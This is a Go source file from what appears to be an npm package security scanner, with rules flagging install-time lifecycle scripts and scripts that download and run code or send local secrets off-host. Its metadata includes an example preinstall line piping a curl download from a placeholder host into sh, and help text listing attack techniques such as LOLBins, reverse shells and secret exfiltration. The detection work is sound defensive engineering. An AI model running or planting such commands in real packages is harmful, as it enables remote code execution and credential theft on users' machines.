// Package install holds rules about what runs when a package is installed.
package install

import (
	"bytes"
	"context"
	"fmt"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/npm"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// LifecycleScript reports install-time scripts.
type LifecycleScript struct{}

// Meta implements analyze.Rule.
func (LifecycleScript) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "install/lifecycle-script", Version: 2, Title: "Runs code at install time",
		Help: "The package declares a preinstall, install, postinstall or prepare script (or ships binding.gyp, which makes npm run node-gyp). " +
			"Such code runs with your user's rights on every install, before you have used the package; most install-time malware starts here. " +
			"Many legitimate packages build native code or download a platform binary at install, so this is context, not a verdict. " +
			"A prepare script is informational: npm, yarn and pnpm run it when installing from git or a local folder, never for a package " +
			"from a registry (published package.json files keep their build's prepare).",
		Remediation:     "Check what the script runs. Install with --ignore-scripts where you can, and allow scripts only for packages that need them.",
		Example:         `"scripts": { "postinstall": "node setup.js" }`,
		DefaultSeverity: finding.SeverityLow, Signal: analyze.SigInstall, Needs: analyze.NeedManifest,
	}
}

// Check implements analyze.Rule.
func (LifecycleScript) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, s := range t.InstallScripts() {
		sev := finding.SeverityLow
		msg := fmt.Sprintf("%s script runs at install: %s", s.Hook, jsastClean(s.Command))
		switch {
		case strings.HasPrefix(s.Command, "node-gyp rebuild (implicit") || s.Command == "node-gyp rebuild":
			sev = finding.SeverityInfo
		case s.Hook == "prepare":
			sev = finding.SeverityInfo
			msg = "prepare script runs at git and local installs only: " + jsastClean(s.Command)
		}
		r.Report(analyze.Instance{File: "package.json", Message: msg,
			Evidence: rulekit.Ev(fmt.Sprintf("%q: %q", s.Hook, s.Command), "", ""), Severity: sev, Confidence: finding.ConfidenceHigh})
	}
	return nil
}

func jsastClean(s string) string {
	if len(s) > 120 {
		return s[:120] + "…"
	}
	return s
}

// ShellDownloadExec flags install scripts (and shell files they run)
// that download and execute code or send local secrets.
type ShellDownloadExec struct{}

// Meta implements analyze.Rule.
func (ShellDownloadExec) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "install/shell-download-exec", Version: 11, Title: "Install script downloads and runs code or sends secrets",
		Help: "An install-time shell command (a lifecycle script, a shell file it runs, or a command expansion <!(…) in the binding.gyp node-gyp " +
			"configures at install) pipes a download into a shell (curl | sh), runs an encoded PowerShell command, uses a Windows " +
			"download LOLBin (certutil, bitsadmin, mshta), runs a download through command substitution (sh -c \"$(curl ...)\", source <(curl ...)) " +
			"or an inline node -e script that fetches code and evaluates it (a shell variable or PowerShell variable set to a constant is read " +
			"where the script uses it: $DL \"$OUT\" \"$URL\" with DL=\"curl -fsSL -o\"), " +
			"opens a reverse shell, or posts local secrets (SSH keys, .npmrc, the environment) with curl or a python -c one-liner. " +
			"Code fetched at install is invisible to any review of the package and can change at any time. The files install scripts hand " +
			"to a shell or another interpreter are read too, with or without an extension (sh scripts/setup, bash ./install, python3 " +
			"setup.py, powershell -File x.ps1, make, cmake -P), and so are binding.gyp's actions and the Makefile an action runs. The " +
			"scripts npm runs when it installs a package from git (preprepare, postprepare, prepack, postpack, prepublish) and the " +
			"dependencies script it runs after node_modules changes count like " +
			"prepare. A shell script the package installs as a command (bin) that downloads and runs code is high. Any other shell script the " +
			"package ships that sends local secrets (the environment, .npmrc, SSH or cloud keys) off-host is high whoever starts it, and " +
			"critical when it sends them to a request bin, paste site, chat webhook or public IP address.",
		Remediation:     "Do not install this version. If it is a dependency, pin a known-good version or replace it, and rotate credentials if it already ran.",
		Example:         `"preinstall": "curl -s https://example.invalid/x.sh | sh"`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedManifest | analyze.NeedFiles,
	}
}

// Check implements analyze.Rule.
func (ShellDownloadExec) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	check := func(file, text string, line int) {
		if m := rulekit.ShellSendsSecrets(text); m != "" {
			r.Report(analyze.Instance{File: file, Line: line, Message: "install-time shell command sends local secrets off-host", Severity: finding.SeverityCritical,
				Evidence: rulekit.Ev(jsastClean(m), "", "command: "+jsastClean(text)), Confidence: finding.ConfidenceHigh, Signal: analyze.SigExfil})
			return
		}
		if m := rulekit.ShellDanger(text); m != "" {
			sev := finding.SeverityCritical
			trusted := true
			hosts := rulekit.URLs(text)
			for _, u := range hosts {
				if !rulekit.TrustedFor(t, rulekit.Host(u)) {
					trusted = false
				}
			}
			if trusted && len(hosts) > 0 {
				sev = finding.SeverityHigh
			}
			r.Report(analyze.Instance{File: file, Line: line, Message: "install-time command downloads and executes code", Severity: sev,
				Evidence: rulekit.Ev(jsastClean(m), "", ""), Confidence: finding.ConfidenceHigh})
		}
	}
	gyp := false
	for _, s := range t.InstallScripts() {
		check("package.json", s.Command, 0)
		gyp = gyp || strings.Contains(s.Command, "node-gyp")
	}
	// npm runs these when it installs the package from git (and packs
	// or publishes it): a download-and-run there is as deliberate
	if m, _ := t.Manifest(); m != nil {
		for _, h := range gitHooks {
			if c := m.Scripts[h]; c != "" {
				check("package.json", c, 0)
			}
		}
	}
	// binding.gyp: node-gyp runs its command expansions, <!(cmd) and
	// <!@(cmd), while it configures the build at install, and the
	// commands of its actions while it builds
	var scan []string
	if b, err := t.Read("binding.gyp"); gyp && err == nil {
		for _, c := range analyze.GypCommands(string(b)) {
			check("binding.gyp", c.Command, c.Line)
		}
		for _, cmd := range gypActions(string(b)) {
			check("binding.gyp", cmd, 0)
			// the files an action runs (make -C deps reads deps/Makefile)
			scan = append(scan, t.CommandFiles(cmd)...)
		}
	}
	// files install scripts hand to a shell or another interpreter (sh,
	// bash ./install, python3 setup.py, powershell -File, make, cmake
	// -P), shipped shell files when nothing says what runs, and the
	// scripts a bin names
	for _, f := range t.Files() {
		ext := strings.ToLower(path.Ext(f))
		script := ext == ".sh" || ext == ".bash" || ext == ".ps1" || ext == ".cmd" || ext == ".bat"
		if t.InstallHook(f) != "" && !analyze.IsCode(f) || script && t.Partial() || slices.Contains(scan, f) {
			scanScript(t, f, 64<<10, check)
		}
	}
	// any other shell script the package ships: one that gathers local
	// secrets and posts them is theft whoever starts it (a bin's code
	// spawning it detached, a user following the README)
	for _, f := range t.Files() {
		if t.InstallHook(f) != "" || t.Partial() || slices.Contains(scan, f) || !shellScript(t, f) {
			continue
		}
		scanScript(t, f, shippedJoinMax, func(file, text string, line int) {
			m := rulekit.ShellSendsSecrets(text)
			if m == "" || rulekit.ExternalURL(t, text) == "" {
				return // a test against localhost, a build in a container
			}
			sev := finding.SeverityHigh
			for _, u := range rulekit.URLs(text) {
				if h := rulekit.Host(u); rulekit.ExfilService(h) != "" || rulekit.PublicIP(h) {
					sev = finding.SeverityCritical
				}
			}
			r.Report(analyze.Instance{File: file, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh, Signal: analyze.SigExfil,
				Message: "a shell script of the package sends local secrets off-host", Evidence: rulekit.Ev(jsastClean(m), "", "command: "+jsastClean(text))})
		})
	}
	for name, f := range shellBins(t) {
		scanScript(t, f, 64<<10, func(file, text string, line int) {
			if m := rulekit.ShellDanger(text); m != "" {
				r.Report(analyze.Instance{File: file, Line: line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceHigh,
					Message: fmt.Sprintf("the %q command the package installs downloads and executes code", name), Evidence: rulekit.Ev(jsastClean(m), "", "")})
			}
		})
	}
	return nil
}

// gitHooks are the lifecycle scripts npm runs when it installs a package
// from git, packs or publishes it, and "dependencies", which it runs
// after node_modules changes in a project that is the package (a clone
// of it being installed).
var gitHooks = []string{"preprepare", "postprepare", "prepack", "postpack", "prepublish", "dependencies"}

// scanScript runs check on each line of a text script of the package
// that says something (binaries are skipped), and on the whole of one
// under joinMax bytes joined (a secret read on one line and sent on the
// next).
func scanScript(t *analyze.Target, f string, joinMax int, check func(file, text string, line int)) {
	b, err := t.Read(f)
	if err != nil || bytes.IndexByte(b[:min(len(b), 512)], 0) >= 0 {
		return
	}
	text := string(b)
	if strings.EqualFold(path.Ext(f), ".ps1") {
		// -EncodedCommand $policy: the values of its variables in place
		text = rulekit.ExpandPSVars(text)
	} else {
		// $DL "$OUT" "$URL" with DL="curl -fsSL -o"
		text = rulekit.ExpandShellVars(text)
	}
	found := false
	for i, line := range strings.Split(text, "\n") {
		if i > 5000 {
			break
		}
		if rulekit.ShellSendsSecrets(line) != "" || rulekit.ShellDanger(line) != "" {
			check(f, line, i+1)
			found = true
		}
	}
	if !found && len(text) < joinMax {
		check(f, rulekit.JoinScript(text), 1)
	}
}

// shippedJoinMax is the longest shipped script (not run at install) read
// as one command: a stealer's few lines, not a cross-compiling toolchain
// script that mentions env here and wget there, which joined into one
// line pairs reads and sends that have nothing to do with each other.
const shippedJoinMax = 4 << 10

// shellScript reports a shell script: .sh or .bash, or a file that is
// not JavaScript opening with a "#!" line that names a shell.
func shellScript(t *analyze.Target, f string) bool {
	if ext := strings.ToLower(path.Ext(f)); ext == ".sh" || ext == ".bash" {
		return true
	}
	if analyze.IsCode(f) {
		return false
	}
	head, err := t.Head(f, 64)
	return err == nil && rulekit.ShellShebang.Match(head)
}

// shellBins returns the package's commands whose target is a shell
// script (a "#!" line naming a shell, or .sh), by command name.
func shellBins(t *analyze.Target) map[string]string {
	m, _ := t.Manifest()
	if m == nil {
		return nil
	}
	out := map[string]string{}
	for name, target := range npm.Bins(m.Name, m.Bin) {
		if f := path.Clean(strings.TrimPrefix(target, "./")); shellScript(t, f) {
			out[name] = f
		}
	}
	return out
}

var (
	// gypAction matches an action's command list in binding.gyp
	gypAction = regexp.MustCompile(`['"]action['"]\s*:\s*\[([^\]]*)\]`)
	gypString = regexp.MustCompile(`'([^']*)'|"([^"]*)"`)
)

// gypActions returns the commands of binding.gyp's actions, each list
// joined into one command line.
func gypActions(gyp string) []string {
	var out []string
	for _, mm := range gypAction.FindAllStringSubmatch(gyp, 64) {
		var parts []string
		for _, q := range gypString.FindAllStringSubmatch(mm[1], 64) {
			parts = append(parts, q[1]+q[2])
		}
		out = append(out, strings.Join(parts, " "))
	}
	return out
}
